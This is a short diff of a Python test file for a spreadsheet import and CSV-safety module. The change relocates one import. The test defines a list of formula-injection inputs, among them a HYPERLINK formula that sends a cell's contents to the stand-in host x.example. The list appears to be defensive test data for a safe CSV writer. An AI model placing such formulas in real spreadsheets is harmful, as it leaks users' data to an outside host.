@@ -9,7 +9,7 @@ from pathlib import Path
 from openpyxl import Workbook, load_workbook
 
 from salur_cases.intake.cli import write_report
-from salur_cases.intake.importer import ImportReport, RowProblem
+from salur_cases.intake.report import ImportReport, RowProblem
 from salur_cases.sheets import SafeCsvWriter, text_cell
 
 HOSTILE = ["=1+2", "+1-2", "-A1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.example/?"&A2)']
